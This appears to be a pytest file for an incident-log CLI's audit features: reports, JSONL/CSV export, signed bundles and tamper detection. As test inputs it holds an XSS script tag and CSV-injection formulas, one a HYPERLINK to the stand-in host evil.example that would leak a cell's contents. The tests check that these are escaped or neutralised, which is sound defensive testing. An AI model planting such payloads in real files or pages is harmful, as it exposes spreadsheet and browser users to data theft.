"""The auditor's commands end to end: report, export, bundle, verify --bundle."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import VIRAL_START

INCIDENT = "INC-20260314-001"


@pytest.fixture
def incident(cli):
    assert cli(*VIRAL_START).exit_code == 0
    assert cli("task", INCIDENT, "confirm_post").exit_code == 0
    assert cli("note", INCIDENT, "<script>alert(1)</script>").exit_code == 0
    return INCIDENT


@pytest.mark.parametrize("fmt", ["md", "html", "json"])
def test_report_in_every_format(cli, incident, fmt, tmp_path):
    out = tmp_path / f"report.{fmt}"
    result = cli("report", incident, "--format", fmt, "-o", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert incident in text
    if fmt == "json":
        assert json.loads(text)["integrity"]["ok"] is True
    if fmt == "html":
        assert "<script>alert(1)</script>" not in text
        assert "&lt;script&gt;" in text


def test_report_into_a_missing_folder_exits_4_and_writes_nothing(cli, incident, tmp_path):
    target = tmp_path / "missing-folder" / "report.md"
    result = cli("report", incident, "-o", str(target))
    assert result.exit_code == 4
    assert "missing-folder does not exist" in result.stderr
    assert not target.exists()


def test_export_streams_jsonl_and_csv_that_match_the_log(cli, incident, store, tmp_path):
    jsonl = cli("export", incident)
    assert jsonl.exit_code == 0
    lines = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert lines == [e.to_json() for e in store.events(incident)]
    out = tmp_path / "events.csv"
    assert cli("export", incident, "--format", "csv", "-o", str(out)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [int(r["seq"]) for r in rows] == list(range(1, len(lines) + 1))


@pytest.mark.parametrize("name", ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")", "+1+2", "-2+3",
                                  "@SUM(A1)"])
def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(cli, tmp_path, name):
    """OWASP's CSV injection advice: a cell starting with = + - @, tab or CR gets a leading '."""
    assert cli(*VIRAL_START).exit_code == 0
    assert cli("assign", "--as", "alice", "--", INCIDENT, "social_media", name).exit_code == 0
    assert cli("note", INCIDENT, "ok", "--as", name).exit_code == 0
    out = tmp_path / "events.csv"
    assert cli("export", INCIDENT, "--format", "csv", "-o", str(out)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert rows[-1]["actor"] == "'" + name
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    jsonl = [json.loads(line) for line in cli("export", INCIDENT).stdout.splitlines()]
    assert jsonl[-1]["actor"] == name  # JSON Lines stay exact
    assert jsonl[-2]["data"]["person"] == name


def test_csv_cells_starting_with_a_tab_or_carriage_return_are_neutralised_too():
    from engine.audit.report import csv_cell

    assert [csv_cell(t) for t in ("\tx", "\rx", "x=1", "", "{\"a\":1}")] == ["'\tx", "'\rx", "x=1", "", "{\"a\":1}"]


def test_export_of_an_unknown_incident_creates_no_file(cli, tmp_path):
    out = tmp_path / "events.jsonl"
    result = cli("export", "INC-nope", "-o", str(out))
    assert result.exit_code == 4
    assert not out.exists()


def test_a_bundle_verifies_away_from_the_database(cli, incident, tmp_path, monkeypatch):
    monkeypatch.setenv("PLAYBOOK_KEY", str(tmp_path / "signing.key"))
    bundle = tmp_path / "audit.zip"
    assert cli("bundle", incident, "-o", str(bundle)).exit_code == 0
    (tmp_path / "incidents.db").rename(tmp_path / "elsewhere.db")  # the auditor has no database
    public = tmp_path / "public.pem"
    public.write_text(cli("key").stdout)  # obtained independently of the bundle
    result = cli("verify", "--bundle", str(bundle), "--public-key", str(public))
    assert result.exit_code == 0, result.output
    assert "events verify" in result.stdout


def test_a_modified_bundle_fails_verification_with_exit_7(cli, incident, tmp_path):
    import zipfile

    bundle = tmp_path / "audit.zip"
    assert cli("bundle", incident, "-o", str(bundle)).exit_code == 0
    with zipfile.ZipFile(bundle) as zf:
        members = {name: zf.read(name) for name in zf.namelist()}
    members["events.jsonl"] = members["events.jsonl"].replace(b"confirm_post", b"check_patient", 1)
    with zipfile.ZipFile(bundle, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    result = cli("verify", "--bundle", str(bundle))
    assert result.exit_code == 7
    assert "does NOT verify" in result.stderr
    assert "events.jsonl" in result.stderr


def test_verify_detects_a_truncated_log_against_an_earlier_checkpoint(cli, incident, db, tmp_path):
    import sqlite3

    cp = tmp_path / "cp.json"
    assert cli("verify", "-o", str(cp)).exit_code == 0
    con = sqlite3.connect(db)
    con.execute("DROP TRIGGER events_no_delete")
    last = con.execute("SELECT max(seq) FROM events").fetchone()[0]
    con.execute("DELETE FROM events WHERE seq = ?", (last,))
    prev = con.execute("SELECT hash FROM events WHERE seq = ?", (last - 1,)).fetchone()[0]
    con.execute("UPDATE snapshots SET seq = ?, head = ?", (last - 1, prev))
    con.commit()
    con.close()
    result = cli("verify", "--checkpoint", str(cp))
    assert result.exit_code == 7
    assert "truncated" in result.stderr


def test_verify_reports_an_edited_projection(cli, incident, db):
    """Commands act on the stored state; verify refolds the log and notices an edit to it."""
    import sqlite3

    con = sqlite3.connect(db)
    state = json.loads(con.execute("SELECT state FROM snapshots").fetchone()[0])
    state["drill"] = True
    con.execute("UPDATE snapshots SET state = ?", (json.dumps(state),))
    con.commit()
    con.close()
    result = cli("verify")
    assert result.exit_code == 7
    assert incident in result.stderr
    assert cli("verify", "--fast").exit_code == 0  # the chain itself is intact


def test_reading_commands_never_create_a_database(cli, tmp_path):
    missing = tmp_path / "typo" / "incidents.db"
    for args in (["status", "INC-1"], ["list"], ["log", "INC-1"], ["report", "INC-1"],
                 ["export", "INC-1"], ["drafts", "INC-1"], ["bundle", "INC-1", "-o", str(tmp_path / "b.zip")]):
        result = cli(*args, "--db", str(missing))
        assert result.exit_code in (0, 4), (args, result.output)
    assert not missing.exists() and not missing.parent.exists()
    assert not (tmp_path / "signing.key").exists()


def test_a_checkpoint_is_only_signed_after_every_incident_verified(cli, incident, tmp_path):
    result = cli("verify", incident, "-o", str(tmp_path / "cp.json"))
    assert result.exit_code == 2
    assert "run verify without INCIDENT" in result.stderr
    assert cli("verify", incident).exit_code == 0
    assert not (tmp_path / "cp.json").exists()


def test_a_user_who_may_only_read_the_database_can_run_the_reading_commands(cli, incident, tmp_path, monkeypatch):
    """Reading commands open the database read-only (SQLite mode=ro), so neither the file
    nor its folder needs to be writable. Run in a separate process without the power
    to bypass file permissions (as root: its capabilities dropped)."""
    import os
    import shutil
    import subprocess
    import sys

    from conftest import ROOT

    prefix = []
    if os.geteuid() == 0:
        if shutil.which("setpriv") is None:
            pytest.skip("root bypasses file permissions and setpriv is not installed to drop that")
        prefix = ["setpriv", "--bounding-set=-dac_override,-dac_read_search"]
    monkeypatch.setenv("PLAYBOOK_KEY", str(tmp_path / "vault" / "signing.key"))
    assert cli("verify").exit_code == 0  # the owner signs a checkpoint
    import sqlite3

    con = sqlite3.connect(tmp_path / "incidents.db")
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # everything committed into the file we copy
    con.close()
    data = tmp_path / "ro"
    data.mkdir()
    db = data / "incidents.db"
    shutil.copy(tmp_path / "incidents.db", db)
    env = {k: v for k, v in os.environ.items() if not k.startswith("PLAYBOOK_")}
    env.update(PLAYBOOK_DB=str(db), PLAYBOOK_KEY=str(tmp_path / "vault" / "signing.key"), PLAYBOOK_ACTOR="auditor")
    db.chmod(0o444)
    data.chmod(0o555)
    try:
        out = {}
        for args in (["status", INCIDENT], ["log", INCIDENT], ["report", INCIDENT], ["verify"],
                     ["export", INCIDENT], ["drafts", INCIDENT], ["list"]):
            done = subprocess.run([*prefix, sys.executable, "-m", "cli", *args], cwd=ROOT, env=env,
                                  capture_output=True, text=True, timeout=60)
            assert done.returncode == 0, (args, done.stderr)
            out[args[0]] = done.stdout
        assert "OK: " in out["verify"] and "against 1 checkpoint(s)" in out["verify"]
        assert "No checkpoint signed: the database is read-only for you." in out["verify"]
        written = subprocess.run([*prefix, sys.executable, "-m", "cli", "note", INCIDENT, "hi"], cwd=ROOT, env=env,
                                 capture_output=True, text=True, timeout=60)
        assert written.returncode == 8 and "cannot be written" in written.stderr
        assert sorted(p.name for p in data.iterdir()) == ["incidents.db"]
    finally:
        data.chmod(0o755)
        db.chmod(0o644)
